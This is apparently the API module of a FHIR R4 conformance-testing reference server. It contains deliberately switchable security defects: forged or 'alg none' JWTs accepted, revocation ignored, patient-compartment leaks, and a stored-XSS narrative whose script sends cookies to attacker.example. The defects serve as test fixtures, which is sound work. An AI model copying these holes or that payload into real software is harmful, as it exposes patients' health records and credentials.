"""The FHIR R4 API: bearer-token checks, scope and patient-compartment enforcement, read, search, $everything.

Access policy (documented for target authors):
- Every route but ``metadata`` and the well-known file needs ``Authorization: Bearer``; ``access_token`` in the
  query string is ignored (so such a request is unauthenticated: 401).
- 401 + ``WWW-Authenticate: Bearer realm=..., error="invalid_token"`` for malformed, forged, expired or revoked
  tokens; with no credentials at all the challenge carries no error code (RFC 6750 §3.1).
- A resource type outside the granted scopes: 403 OperationOutcome (``insufficient_scope``); 404 under the
  ``refusals-as-404`` variant.
- Another member's record read by id: 404, byte-identical to a missing id (no existence oracle); under the
  ``refusals-as-403`` variant both are 403, again identical.
- A search naming another member's patient: an empty searchset Bundle (the same as an unknown patient).
- Organization and Practitioner are shared reference data, readable whenever scopes allow.
- Writes: 403 unless a write scope was granted; the server never grants one (read-only), see ``scopes.py``.
- Search parameters (unknown ones, empty values, ``Prefer: handling``, self links) and ``_format``: see
  ``fhir_search.py``. Interactions the CapabilityStatement does not list (history, vread) answer 404.
- Chained parameters ``patient.identifier``/``patient.name`` (``beneficiary.`` on Coverage) are supported, inside the
  compartment like any other parameter.
- Batch/transaction (POST to the base) is not offered: under read-only scopes it is refused (403) as a write.
- The Payer-to-Payer client (``backend-p2p-client``) reads Patient, Coverage and ExplanationOfBenefit only of the
  members it matched with an honoured Consent (``pdex.p2p_query``); a system/ token of any other backend client
  reaches every member's records of its granted types.
"""

from __future__ import annotations

import json
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import jwt
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response

from smart_conformance.reference import scopes as scope_rules
from smart_conformance.reference.auth import opaque_access_claims
from smart_conformance.reference.context import Context, ctx_of
from smart_conformance.reference.data import PATIENT_LINK, SUPPORTED_TYPES, Resource
from smart_conformance.reference.faults import Fault
from smart_conformance.reference.variants import REFUSALS_AS_403, REFUSALS_AS_404

FHIR_JSON = "application/fhir+json"
REALM = "reference-payer-fhir"

# (source type, search parameter) -> (element holding the reference(s), target type)
INCLUDES: dict[tuple[str, str], tuple[str, str]] = {
    ("ExplanationOfBenefit", "patient"): ("patient", "Patient"),
    ("ExplanationOfBenefit", "coverage"): ("insurance.coverage", "Coverage"),
    ("ExplanationOfBenefit", "insurer"): ("insurer", "Organization"),
    ("ExplanationOfBenefit", "provider"): ("provider", "Organization"),
    ("ExplanationOfBenefit", "care-team"): ("careTeam.provider", "Practitioner"),
    ("Coverage", "beneficiary"): ("beneficiary", "Patient"),
    ("Coverage", "patient"): ("beneficiary", "Patient"),
    ("Coverage", "payor"): ("payor", "Organization"),
    ("RelatedPerson", "patient"): ("patient", "Patient"),
}


# --- responses -----------------------------------------------------------------------------------------------
def fhir_json(ctx: Context, body: dict[str, Any], status: int = 200,
              headers: dict[str, str] | None = None) -> Response:
    media = "application/json" if ctx.faults.active(Fault.WRONG_CONTENT_TYPE) else FHIR_JSON
    body = _as_served(ctx, body)
    response = Response(json.dumps(body, separators=(",", ":")), status_code=status, headers=headers,
                        media_type=f"{media}; charset=utf-8")
    response.headers.setdefault("Cache-Control", "no-store")
    if ctx.faults.active(Fault.MEMBER_DATA_CACHEABLE):  # the defect: member data marked for any shared cache
        response.headers["Cache-Control"] = "public, max-age=3600"
    return response


def _as_served(ctx: Context, body: dict[str, Any]) -> dict[str, Any]:
    """The data faults: claims served with a dangling insurer, or with dates that are not FHIR dateTimes; a Patient
    narrative with live script; Coverage without a CARIN must-support element."""
    unresolvable = ctx.faults.active(Fault.EOB_INSURER_UNRESOLVABLE)
    bad_dates = ctx.faults.active(Fault.INVALID_FHIR_DATES)
    script = ctx.faults.active(Fault.NARRATIVE_SCRIPT)
    no_relationship = ctx.faults.active(Fault.MUST_SUPPORT_DROPPED)
    shared_script = ctx.faults.active(Fault.SHARED_NARRATIVE_SCRIPT)
    if not (unresolvable or bad_dates or script or no_relationship or shared_script):
        return body

    def degrade(resource: Any) -> Any:
        kind = resource.get("resourceType") if isinstance(resource, dict) else None
        if kind == "Patient" and script:
            div = ('<div xmlns="http://www.w3.org/1999/xhtml"><p onclick="steal()">Member</p>'
                   '<script>fetch("https://attacker.example/?c="+document.cookie)</script></div>')
            return {**resource, "text": {"status": "generated", "div": div}}
        if kind == "Organization" and shared_script:  # the defect: a provider-supplied narrative, never sanitized
            div = ('<div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="steal()"/>'
                   f'<p>{resource.get("name", "")}</p></div>')
            return {**resource, "text": {"status": "generated", "div": div}}
        if kind == "Coverage" and no_relationship:
            return {k: v for k, v in resource.items() if k != "relationship"}
        if kind != "ExplanationOfBenefit":
            return resource
        changed = dict(resource)
        if unresolvable:
            changed["insurer"] = {"reference": "Organization/org-payer-retired-2019"}
        if bad_dates and isinstance(changed.get("created"), str):
            year, month, day = changed["created"][:10].split("-")
            changed["created"] = f"{month}/{day}/{year}"
        return changed

    if body.get("resourceType") == "Bundle":
        return {**body, "entry": [{**e, "resource": degrade(e.get("resource"))} for e in body.get("entry") or []]}
    return degrade(body)


def outcome(ctx: Context, status: int, code: str, diagnostics: str,
            headers: dict[str, str] | None = None) -> Response:
    """Every FHIR error is an OperationOutcome (no stack traces, no framework text)."""
    if ctx.faults.active(Fault.ERROR_NOT_OPERATIONOUTCOME):
        return HTMLResponse(f"<html><body><h1>Error {status}</h1><p>{diagnostics}</p></body></html>",
                            status_code=status, headers=headers)
    body = {"resourceType": "OperationOutcome",
            "issue": [{"severity": "error", "code": code, "diagnostics": diagnostics}]}
    return fhir_json(ctx, body, status, headers)


def unauthorized(ctx: Context, description: str, *, error: str | None = "invalid_token") -> Response:
    challenge = f'Bearer realm="{REALM}"'
    if error:
        challenge += f', error="{error}", error_description="{description}"'
    headers = None if ctx.faults.active(Fault.WWW_AUTHENTICATE_MISSING) else {"WWW-Authenticate": challenge}
    return outcome(ctx, 401, "login", description, headers)


class Refused(Exception):
    """Raised inside the API to stop with a ready-made response."""

    def __init__(self, response: Response) -> None:
        super().__init__()
        self.response = response


# --- authentication ------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Principal:
    """Who is calling, from the verified access token."""

    client_id: str
    scope: str
    patient: str | None
    sub: str = ""

    def can(self, rtype: str, letter: str) -> bool:
        return scope_rules.permits(self.scope, rtype, letter)


def _bearer(ctx: Context, request: Request) -> str | None:
    header = request.headers.get("authorization", "")
    scheme, _, value = header.partition(" ")
    if scheme.lower() == "bearer" and value.strip():
        return value.strip()
    if ctx.faults.active(Fault.TOKEN_IN_QUERY_ACCEPTED):
        return request.query_params.get("access_token") or None
    return None


def authenticate(ctx: Context, request: Request) -> Principal:
    """Verify the bearer token: RS256 signature by our key, iss, aud, exp, and the revocation list in SQLite."""
    token = _bearer(ctx, request)
    if token is None:
        parts = [p for p in request.path_params.get("rest", "").split("/") if p]
        if ctx.faults.active(Fault.TOKENLESS_PATIENT_READ) and len(parts) == 2 and parts[0] == "Patient":
            return Principal("(no token)", "patient/Patient.rs", parts[1])  # the defect: a gateway's default user
        raise Refused(unauthorized(ctx, "an access token is required", error=None))
    try:
        return _verify(ctx, token)
    except Refused:
        parts = [p for p in request.path_params.get("rest", "").split("/") if p]
        if ctx.faults.active(Fault.REVOCATION_IGNORED_ON_SEARCHES) and (len(parts) == 1 or parts[-1:] == ["$everything"]):
            return _verify(ctx, token, revoked_ok=True)  # the defect: only the read path consults the revocation list
        if ctx.faults.active(Fault.REFUSAL_ECHOES_TOKEN):  # the defect: the refused credential repeated in the answer
            raise Refused(outcome(ctx, 401, "login", f"the access token {token} is not valid",
                                  {"WWW-Authenticate": f'Bearer realm="{REALM}", error="invalid_token"'})) from None
        raise


def _verify(ctx: Context, token: str, *, revoked_ok: bool = False) -> Principal:
    opaque = opaque_access_claims(ctx, token)
    if opaque is not None:
        if opaque["exp"] < ctx.now() and not ctx.faults.active(Fault.EXPIRED_TOKEN_ACCEPTED):
            raise Refused(unauthorized(ctx, "the access token has expired"))
        return _principal(ctx, opaque, revoked_ok=revoked_ok)
    try:
        header = jwt.get_unverified_header(token)
    except jwt.PyJWTError:
        raise Refused(unauthorized(ctx, "the access token is malformed")) from None
    verify_exp = not ctx.faults.active(Fault.EXPIRED_TOKEN_ACCEPTED)
    try:
        if header.get("alg") == "none" and ctx.faults.active(Fault.ALG_NONE_ACCEPTED):
            claims = jwt.decode(token, options={"verify_signature": False, "verify_exp": verify_exp})
        elif ctx.faults.active(Fault.TAMPERED_SIGNATURE_ACCEPTED):
            claims = jwt.decode(token, options={"verify_signature": False, "verify_exp": verify_exp,
                                                "verify_aud": False, "verify_iss": False})
        else:
            key = ctx.keys.public_key(header.get("kid"))
            if key is None:
                raise Refused(unauthorized(ctx, "the access token was not signed by this server"))
            claims = jwt.decode(token, key, algorithms=["RS256"], audience=ctx.fhir_base, issuer=ctx.issuer,
                                leeway=ctx.clock_skew(),
                                options={"verify_exp": verify_exp, "require": ["exp", "jti", "scope"]})
    except jwt.ExpiredSignatureError:
        raise Refused(unauthorized(ctx, "the access token has expired")) from None
    except jwt.PyJWTError:
        raise Refused(unauthorized(ctx, "the access token is not valid")) from None
    return _principal(ctx, claims, revoked_ok=revoked_ok)


def _principal(ctx: Context, claims: dict[str, Any], *, revoked_ok: bool = False) -> Principal:
    """Who a verified token speaks for, unless it was revoked."""
    row = ctx.store.access_token(str(claims.get("jti", "")))
    if row is not None and row["revoked"] and not (revoked_ok or ctx.faults.active(Fault.REVOKED_TOKEN_ACCEPTED)):
        raise Refused(unauthorized(ctx, "the access token was revoked"))
    patient = claims.get("patient")
    return Principal(client_id=str(claims.get("client_id", "")), scope=str(claims.get("scope", "")),
                     patient=str(patient) if patient else None, sub=str(claims.get("sub", "")))


# --- compartment and scope -----------------------------------------------------------------------------------
def _in_compartment(ctx: Context, who: Principal, resource: Resource) -> bool:
    owner = ctx.data.patient_of(resource)
    if owner is None or (who.patient is not None and owner == who.patient):
        return True
    if who.patient is None and scope_rules.has_system_scopes(who.scope.split()):
        return True  # a backend client's system/ token: every member's records of the granted types (backend.py)
    return ctx.faults.active(Fault.REPRESENTATIVE_OVER_REACH) and _is_representative(ctx, who)


def _is_representative(ctx: Context, who: Principal) -> bool:
    """Whether the signed-in user is a RelatedPerson (an authorized representative), not a Patient."""
    return any(m.sub == who.sub and m.fhir_user.startswith("RelatedPerson/") for m in ctx.data.members.values())


def _refs(resource: Resource, path: str) -> list[str]:
    """Reference strings at a dotted path, through lists."""
    values: list[Any] = [resource]
    for step in path.split("."):
        nxt: list[Any] = []
        for value in values:
            item = value.get(step) if isinstance(value, dict) else None
            nxt.extend(item if isinstance(item, list) else [item] if item is not None else [])
        values = nxt
    return [v["reference"] for v in values if isinstance(v, dict) and isinstance(v.get("reference"), str)]


def _require_scope(ctx: Context, who: Principal, rtype: str, letter: str) -> None:
    scope = who.scope
    system = who.patient is None and scope_rules.has_system_scopes(scope.split())
    if system and ctx.faults.active(Fault.SYSTEM_TOKENS_REFUSED):  # the defect: the API knows only member tokens
        raise Refused(outcome(ctx, 403, "forbidden", "this access token has no patient context"))
    if system and ctx.faults.active(Fault.SYSTEM_SCOPE_NOT_ENFORCED):
        return
    if ctx.faults.active(Fault.V1_SCOPES_IGNORED):  # the defect: only v2 suffixes are parsed at the API
        scope = " ".join(s for s in scope.split() if not s.endswith((".read", ".write", ".*")))
    if scope_rules.permits(scope, rtype, letter) or ctx.faults.active(Fault.SCOPE_NOT_ENFORCED):
        return
    verb = {"r": "read", "s": "search", "c": "create", "u": "update", "d": "delete"}[letter]
    status, code = (404, "not-found") if ctx.variants.active(REFUSALS_AS_404) else (403, "forbidden")
    raise Refused(outcome(ctx, status, code, f"the granted scopes do not allow {verb} of {rtype}",
                          {"WWW-Authenticate": f'Bearer realm="{REALM}", error="insufficient_scope"'}))


def _not_found(ctx: Context, rtype: str, rid: str) -> Response:
    """A missing record and another member's look the same: 404 by default, 403 for member data (refusals-as-403)."""
    if ctx.variants.active(REFUSALS_AS_403) and (rtype == "Patient" or rtype in PATIENT_LINK):
        return outcome(ctx, 403, "forbidden", f"{rtype}/{rid} is not available to this access token")
    return outcome(ctx, 404, "not-found", f"{rtype}/{rid} is not known")


# --- routes --------------------------------------------------------------------------------------------------
async def metadata(request: Request) -> Response:
    from smart_conformance.reference.discovery import capability_statement

    ctx = ctx_of(request)
    if ctx.faults.active(Fault.METADATA_REQUIRES_TOKEN):
        try:
            authenticate(ctx, request)
        except Refused as refused:
            return refused.response
    return fhir_json(ctx, capability_statement(ctx), headers={"Cache-Control": "public, max-age=300"})


async def endpoint(request: Request) -> Response:
    """Every /fhir/{type}[/{id}[/$everything]] request."""
    from smart_conformance.reference import fhir_search  # it imports this module

    ctx = ctx_of(request)
    blocking = ctx.faults.active(Fault.GATEWAY_BLOCKS_AFTER_REFUSAL)
    if blocking and ctx.gateway_blocked:
        return unauthorized(ctx, "blocked by the gateway", error=None)
    try:
        response = await _dispatch(ctx, request)
    except Refused as refused:
        response = refused.response
    if blocking and response.status_code == 401:
        ctx.gateway_blocked = True
    return fhir_search.as_html(ctx, request, response)


async def _dispatch(ctx: Context, request: Request) -> Response:
    parts = [p for p in request.path_params.get("rest", "").split("/") if p]
    method = request.method
    try:
        who = authenticate(ctx, request)
    except Refused:
        everything = len(parts) == 3 and parts[0] == "Patient" and parts[2] == "$everything"
        if not (everything and _bearer(ctx, request) and ctx.faults.active(Fault.OPERATIONS_TOKEN_UNVERIFIED)):
            raise
        who = Principal(client_id="", scope="patient/*.read", patient=parts[1])  # the defect: a token, any token
    if not parts:
        if method == "POST":  # batch/transaction: writes, refused under read-only scopes
            return await _write(ctx, request, who, "Bundle", ["Bundle"], method)
        if ctx.faults.active(Fault.SYSTEM_SEARCH_SERVED):  # the defect: an unreviewed way in, with no compartment
            every = [_entry(ctx, r, "match") for rtype in SUPPORTED_TYPES for r in ctx.data.all(rtype)]
            return fhir_json(ctx, {"resourceType": "Bundle", "id": str(uuid.uuid4()), "type": "searchset",
                                   "total": len(every), "entry": every})
        return outcome(ctx, 400, "not-supported", "system-level interactions are not supported")
    rtype = parts[0]
    if who.patient is None and method in ("GET", "HEAD") and _is_p2p_client(who):
        from smart_conformance.reference import pdex  # the requesting payer's reach: its consented members (pdex.py)

        if rtype in pdex.TYPES:
            return pdex.p2p_query(ctx, request, who, parts)
    if parts == ["$export"] and method == "GET" and ctx.faults.active(Fault.SYSTEM_EXPORT_SERVED):
        from smart_conformance.reference import bulk  # the defect: an unadvertised export served (bulk imports us)

        return bulk.start_system_export(ctx, request)
    if rtype not in SUPPORTED_TYPES:
        if ctx.faults.active(Fault.PATH_REFLECTED_IN_HTML):  # the defect: the path segment echoed into an HTML page
            return HTMLResponse(f"<html><body><h1>Not found</h1><p>Unknown resource type {rtype}</p></body></html>",
                                status_code=404)
        return outcome(ctx, 404, "not-supported", f"resource type {rtype!r} is not supported")
    if rtype == "Practitioner" and ctx.faults.active(Fault.CAPABILITY_ADVERTISES_UNSERVED_TYPE):  # the defect: listed
        return outcome(ctx, 404, "not-supported", f"resource type {rtype!r} is not supported")  # in /metadata only
    from smart_conformance.reference import (
        fhir_search,  # search and _format live there (it imports this module)
    )

    fhir_search.check_format(ctx, request)
    if method in ("POST", "PUT", "DELETE", "PATCH") and not (method == "POST" and parts[1:] == ["_search"]):
        return await _write(ctx, request, who, rtype, parts, method)
    if method not in ("GET", "HEAD", "POST"):
        return outcome(ctx, 405, "not-supported", f"{method} is not supported", {"Allow": "GET, HEAD"})
    if len(parts) == 1 or parts[1:] == ["_search"]:
        params = request.query_params
        if method == "POST":
            form = await request.form()
            params = form  # type: ignore[assignment]
        return fhir_search.search(ctx, request, who, rtype, params)
    if len(parts) == 2:
        return _read(ctx, who, rtype, parts[1])
    if len(parts) == 3 and parts[2] == "_history" and ctx.faults.active(Fault.UNADVERTISED_INTERACTION_SERVED):
        return fhir_search.history(ctx, who, rtype, parts[1])  # the defect: served, though not advertised
    if len(parts) == 3 and rtype == "Patient" and parts[2] == "$everything":
        return _everything(ctx, who, parts[1])
    return outcome(ctx, 404, "not-supported", "this interaction is not supported")


def _is_p2p_client(who: Principal) -> bool:
    from smart_conformance.reference.backend import P2P_CLIENT_ID

    return who.client_id == P2P_CLIENT_ID


async def _write(ctx: Context, request: Request, who: Principal, rtype: str, parts: list[str],
                 method: str) -> Response:
    letter = {"POST": "c", "PUT": "u", "PATCH": "u", "DELETE": "d"}[method]
    if ctx.faults.active(Fault.WRITES_ALLOWED):
        try:
            body = json.loads(await request.body() or b"null")
        except ValueError:
            body = None
        if rtype == "Bundle":
            entries = [e for e in (body or {}).get("entry") or [] if isinstance(e, dict)]
            results = []
            for entry in entries:
                req = entry.get("request") or {}
                path, _, query = str(req.get("url", "")).partition("?")
                status, _ = _apply_write(ctx, str(req.get("method", "")).upper(), [p for p in path.split("/") if p],
                                         entry.get("resource"), {}, query)
                results.append({"response": {"status": str(status)}})
            return fhir_json(ctx, {"resourceType": "Bundle", "type": "transaction-response", "entry": results})
        status, stored = _apply_write(ctx, method, parts, body, dict(request.headers), request.url.query)
        if stored is None:
            return Response(status_code=status)
        return fhir_json(ctx, stored, status, {"Location": f"{ctx.fhir_base}/{rtype}/{stored['id']}/_history/"
                                                           f"{stored.get('meta', {}).get('versionId', '1')}"})
    _require_scope(ctx, who, rtype, letter)
    return outcome(ctx, 405, "not-supported", "this reference server is read-only", {"Allow": "GET, HEAD"})


def _without_meta(resource: Any) -> Any:
    return {k: v for k, v in resource.items() if k != "meta"} if isinstance(resource, dict) else resource


def _apply_write(ctx: Context, method: str, parts: list[str], body: Any, headers: dict[str, str],
                 query: str) -> tuple[int, Resource | None]:
    """The writes-allowed fault: a naive server that skips the scope check but otherwise writes as FHIR says (a
    conditional create that matches returns the match; an update identical to the stored resource is a no-op; a
    delete of a missing id deletes nothing). The data changes for real, in this process's memory."""
    rtype = parts[0] if parts else ""
    store = ctx.data.resources.setdefault(rtype, {})

    def matching(condition: str) -> Resource | None:
        name, _, value = condition.partition("=")
        return store.get(value) if name == "_id" else None

    if method == "DELETE":
        if len(parts) > 1:
            store.pop(parts[1], None)
        return 204, None
    if not isinstance(body, dict):
        return 400, None
    if method == "POST":
        found = matching(headers.get("if-none-exist", ""))
        if found is not None:
            return 200, found
        rid = str(uuid.uuid4())
        created = {**_without_meta(body), "resourceType": rtype, "id": rid,
                   "meta": {"versionId": "1", "lastUpdated": _now()}}
        store[rid] = created
        return 201, created
    found = store.get(parts[1]) if len(parts) > 1 else matching(query)
    rid = parts[1] if len(parts) > 1 else (str(found["id"]) if found else str(uuid.uuid4()))
    incoming = {**_without_meta(body), "resourceType": rtype, "id": rid}
    if found is not None and _without_meta(found) == incoming:
        return 200, found
    version = int(((found or {}).get("meta") or {}).get("versionId", "0")) + 1
    stored = {**incoming, "meta": {"versionId": str(version), "lastUpdated": _now()}}
    store[rid] = stored
    return (200 if found else 201), stored


def _read(ctx: Context, who: Principal, rtype: str, rid: str) -> Response:
    _require_scope(ctx, who, rtype, "r")
    resource = ctx.data.get(rtype, rid)
    if resource is None:
        return _not_found(ctx, rtype, rid)
    if not _in_compartment(ctx, who, resource) and not ctx.faults.active(Fault.COMPARTMENT_LEAK_READ):
        if ctx.faults.active(Fault.EXISTENCE_ORACLE):
            return outcome(ctx, 403, "forbidden", f"{rtype}/{rid} belongs to another member")
        return _not_found(ctx, rtype, rid)
    return fhir_json(ctx, resource)


def _ref_id(value: str, rtype: str) -> str:
    """``pat-1``, ``Patient/pat-1`` or an absolute URL → ``pat-1``."""
    marker = f"{rtype}/"
    return value.rsplit(marker, 1)[1] if marker in value else value


def _now() -> str:
    return datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def _entry(ctx: Context, resource: Resource, mode: str) -> dict[str, Any]:
    return {"fullUrl": f"{ctx.fhir_base}/{resource['resourceType']}/{resource['id']}", "resource": resource,
            "search": {"mode": mode}}


def _everything(ctx: Context, who: Principal, patient_id: str) -> Response:
    _require_scope(ctx, who, "Patient", "r")
    patient = ctx.data.get("Patient", patient_id)
    if patient is None:
        return _not_found(ctx, "Patient", patient_id)
    if patient_id != who.patient and not ctx.faults.active(Fault.COMPARTMENT_LEAK_EVERYTHING):
        if ctx.faults.active(Fault.EVERYTHING_EXISTENCE_ORACLE):  # the defect: the refusal says the member exists
            return outcome(ctx, 403, "forbidden", f"Patient/{patient_id} belongs to another member")
        return _not_found(ctx, "Patient", patient_id)
    members = [r for rtype in SUPPORTED_TYPES for r in ctx.data.all(rtype) if ctx.data.patient_of(r) == patient_id]
    shared: list[Resource] = []
    for resource in members:
        for path in ("insurer", "provider", "careTeam.provider", "payor"):
            for ref in _refs(resource, path):
                kind, _, rid = ref.partition("/")
                hit = ctx.data.get(kind, rid)
                if hit is not None and hit not in shared:
                    shared.append(hit)
    visible = [r for r in members + shared if who.can(r["resourceType"], "r")]
    bundle = {"resourceType": "Bundle", "id": str(uuid.uuid4()), "meta": {"lastUpdated": _now()},
              "type": "searchset", "total": len(visible),
              "link": [{"relation": "self", "url": f"{ctx.fhir_base}/Patient/{patient_id}/$everything"}],
              "entry": [_entry(ctx, r, "match") for r in visible]}
    return fhir_json(ctx, bundle)
